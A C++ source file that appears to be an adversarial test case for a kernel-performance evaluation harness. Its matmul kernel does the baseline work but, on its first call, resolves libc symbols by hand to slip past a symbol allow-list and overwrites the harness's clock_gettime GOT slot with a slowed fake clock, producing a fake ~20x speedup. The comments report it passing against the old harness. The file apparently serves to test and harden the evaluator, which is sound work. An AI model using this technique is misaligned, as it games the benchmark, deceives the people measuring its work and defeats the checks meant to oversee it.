// problem: matmul
// expect: ok
// reason: correct on | median
// no_faster_than: 0.5
//
// Attack: slow down the harness's clock by rewriting its GOT entry.
//
// The harness executable is linked with lazy binding (no -z now), so its
// clock_gettime slot lives in .got.plt, outside PT_GNU_RELRO, and stays
// writable for the whole run. On the first call the kernel:
//   1. finds libc's ELF header by walking back page by page from the address
//      of malloc (an allowed symbol), parses libc's dynamic section and
//      resolves "dl_iterate_phdr" and the real "clock_gettime" through
//      DT_GNU_HASH / DT_SYMTAB / DT_STRTAB (neither name is ever linked, so
//      the symbol allow-list never sees them);
//   2. calls dl_iterate_phdr through the pointer to get the main program's
//      load address and program headers, walks its PT_DYNAMIC to DT_JMPREL /
//      DT_RELA, and finds the relocation whose symbol is "clock_gettime";
//   3. if that slot is outside the (page-rounded) PT_GNU_RELRO range, writes
//      the address of FakeClock into it. FakeClock calls the real function
//      and returns anchor + (now - anchor) / kSlow, per clock id, so both the
//      wall clock and the CPU clock of the harness run kSlow times slower.
// The kernel itself does exactly the baseline's work (naive i-j-k loop), so
// every correctness check passes; only the measured time is wrong. With
// -z now -z relro (the new runner) the slot is read-only: the kernel skips
// the patch and is simply the honest baseline, and the new judge's clock is in
// another process anyway.
//
// Measured against today's harness (2 cores, shared machine), see NOTES.md:
//   cd /work/main && /tmp/old-eval/accelopt-eval run --problem tests/evaluators/problems/matmul
//     --kernel /work/attacks-A/attack_replace_clock_got.cpp --cache-dir /tmp/old-eval-cache-A -o json   (one command line)
//   status ok, median 1059-1102 us vs baseline.cpp 21174-21198 us side by side
//   (a fake ~20x speedup), percent_of_peak 9.2-9.6 (baseline 0.48).
#include <elf.h>
#include <link.h>
#include <time.h>

#include <cstdint>
#include <cstdlib>
#include <cstring>

namespace {

constexpr int64_t kSlow = 20;  // the harness's clock runs this many times slower

// ---- libc symbols without naming them to the linker ------------------------
struct Lib { uintptr_t base = 0; const ElfW(Sym)* sym = nullptr; const char* str = nullptr; const uint32_t* gnu = nullptr; };

bool Same(const char* a, const char* b) {
  while (*a && *a == *b) { ++a; ++b; }
  return *a == *b;
}

bool OpenLib(const void* inside, Lib& L) {
  uintptr_t p = reinterpret_cast<uintptr_t>(inside) & ~uintptr_t{4095};
  for (int i = 0; i < 4096 && !L.base; ++i, p -= 4096) {
    const auto* eh = reinterpret_cast<const ElfW(Ehdr)*>(p);
    if (std::memcmp(eh->e_ident, ELFMAG, SELFMAG) == 0 && eh->e_type == ET_DYN && eh->e_machine == EM_X86_64) L.base = p;
  }
  if (!L.base) return false;
  const auto* eh = reinterpret_cast<const ElfW(Ehdr)*>(L.base);
  const auto* ph = reinterpret_cast<const ElfW(Phdr)*>(L.base + eh->e_phoff);
  for (int i = 0; i < eh->e_phnum; ++i) {
    if (ph[i].p_type != PT_DYNAMIC) continue;
    for (auto* d = reinterpret_cast<const ElfW(Dyn)*>(L.base + ph[i].p_vaddr); d->d_tag != DT_NULL; ++d) {
      uintptr_t v = d->d_un.d_ptr;
      if (v < L.base) v += L.base;  // glibc relocates these in place; be safe either way
      if (d->d_tag == DT_SYMTAB) L.sym = reinterpret_cast<const ElfW(Sym)*>(v);
      if (d->d_tag == DT_STRTAB) L.str = reinterpret_cast<const char*>(v);
      if (d->d_tag == DT_GNU_HASH) L.gnu = reinterpret_cast<const uint32_t*>(v);
    }
  }
  return L.sym && L.str && L.gnu;
}

void* Sym(const Lib& L, const char* name) {
  if (!L.gnu) return nullptr;
  uint32_t h = 5381;
  for (const char* s = name; *s; ++s) h = h * 33 + static_cast<unsigned char>(*s);
  const uint32_t nb = L.gnu[0], off = L.gnu[1], bloom = L.gnu[2];
  const uint32_t* buckets = L.gnu + 4 + 2 * bloom;  // 64-bit bloom words
  const uint32_t* chain = buckets + nb;
  for (uint32_t i = buckets[h % nb]; i >= off && i != 0; ++i) {
    const uint32_t c = chain[i - off];
    const ElfW(Sym)& s = L.sym[i];
    if ((c | 1) == (h | 1) && s.st_shndx != SHN_UNDEF && Same(L.str + s.st_name, name)) {
      void* a = reinterpret_cast<void*>(L.base + s.st_value);
      if (ELF64_ST_TYPE(s.st_info) == STT_GNU_IFUNC) a = reinterpret_cast<void* (*)()>(a)();
      return a;
    }
    if (c & 1) break;
  }
  return nullptr;
}

const Lib& Libc() {
  static Lib L;
  static bool done = false;
  if (!done) {
    done = true;
    void* (*volatile m)(size_t) = &std::malloc;
    OpenLib(reinterpret_cast<const void*>(m), L);
  }
  return L;
}

// ---- the slowed clock --------------------------------------------------------
using ClockFn = int (*)(clockid_t, timespec*);
ClockFn g_real = nullptr;
int64_t g_anchor[16];
bool g_anchored[16];

int FakeClock(clockid_t id, timespec* ts) {
  int r = g_real(id, ts);
  if (r != 0 || id < 0 || id >= 16) return r;
  int64_t t = static_cast<int64_t>(ts->tv_sec) * 1000000000 + ts->tv_nsec;
  if (!g_anchored[id]) { g_anchored[id] = true; g_anchor[id] = t; }
  int64_t f = g_anchor[id] + (t - g_anchor[id]) / kSlow;
  ts->tv_sec = f / 1000000000;
  ts->tv_nsec = f % 1000000000;
  return 0;
}

// ---- the main program's GOT ----------------------------------------------------
int FindMain(dl_phdr_info* info, size_t, void* out) {
  *static_cast<dl_phdr_info*>(out) = *info;
  return 1;  // the first object is the main program
}

void PatchSlot(const dl_phdr_info& m, const ElfW(Rela)* rel, size_t bytes, const ElfW(Sym)* sym, const char* str,
               uintptr_t relro_lo, uintptr_t relro_hi) {
  for (size_t k = 0; k < bytes / sizeof(ElfW(Rela)); ++k) {
    uint32_t type = ELF64_R_TYPE(rel[k].r_info);
    if (type != R_X86_64_JUMP_SLOT && type != R_X86_64_GLOB_DAT) continue;
    if (!Same(str + sym[ELF64_R_SYM(rel[k].r_info)].st_name, "clock_gettime")) continue;
    uintptr_t slot = m.dlpi_addr + rel[k].r_offset;
    if (slot >= relro_lo && slot < relro_hi) continue;  // read-only after relocation: fail soft
    *reinterpret_cast<void**>(slot) = reinterpret_cast<void*>(&FakeClock);
  }
}

void PatchClock() {
  g_real = reinterpret_cast<ClockFn>(Sym(Libc(), "clock_gettime"));
  auto iterate = reinterpret_cast<int (*)(int (*)(dl_phdr_info*, size_t, void*), void*)>(Sym(Libc(), "dl_iterate_phdr"));
  if (!g_real || !iterate) return;
  dl_phdr_info m{};
  if (!iterate(&FindMain, &m) || !m.dlpi_phdr) return;
  const ElfW(Dyn)* dyn = nullptr;
  uintptr_t relro_lo = 0, relro_hi = 0;
  for (int i = 0; i < m.dlpi_phnum; ++i) {
    if (m.dlpi_phdr[i].p_type == PT_DYNAMIC) dyn = reinterpret_cast<const ElfW(Dyn)*>(m.dlpi_addr + m.dlpi_phdr[i].p_vaddr);
    if (m.dlpi_phdr[i].p_type == PT_GNU_RELRO) {
      relro_lo = (m.dlpi_addr + m.dlpi_phdr[i].p_vaddr) & ~uintptr_t{4095};
      relro_hi = (m.dlpi_addr + m.dlpi_phdr[i].p_vaddr + m.dlpi_phdr[i].p_memsz + 4095) & ~uintptr_t{4095};
    }
  }
  if (!dyn) return;
  const ElfW(Rela) *jmprel = nullptr, *rela = nullptr;
  size_t jmpsz = 0, relasz = 0;
  const ElfW(Sym)* sym = nullptr;
  const char* str = nullptr;
  for (; dyn->d_tag != DT_NULL; ++dyn) {
    uintptr_t v = dyn->d_un.d_ptr;
    uintptr_t a = v < m.dlpi_addr ? v + m.dlpi_addr : v;
    switch (dyn->d_tag) {
      case DT_JMPREL: jmprel = reinterpret_cast<const ElfW(Rela)*>(a); break;
      case DT_PLTRELSZ: jmpsz = v; break;
      case DT_RELA: rela = reinterpret_cast<const ElfW(Rela)*>(a); break;
      case DT_RELASZ: relasz = v; break;
      case DT_SYMTAB: sym = reinterpret_cast<const ElfW(Sym)*>(a); break;
      case DT_STRTAB: str = reinterpret_cast<const char*>(a); break;
    }
  }
  if (!sym || !str) return;
  if (jmprel) PatchSlot(m, jmprel, jmpsz, sym, str, relro_lo, relro_hi);
  if (rela) PatchSlot(m, rela, relasz, sym, str, relro_lo, relro_hi);
}

}  // namespace

extern "C" void matmul(const float* A, const float* B, float* out, int64_t M, int64_t K, int64_t N) {
  static bool patched = false;
  if (!patched) { patched = true; PatchClock(); }
  for (int64_t i = 0; i < M; ++i)  // exactly the baseline's work
    for (int64_t j = 0; j < N; ++j) {
      float acc = 0;
      for (int64_t k = 0; k < K; ++k) acc += A[i * K + k] * B[k * N + j];
      out[i * N + j] = acc;
    }
}
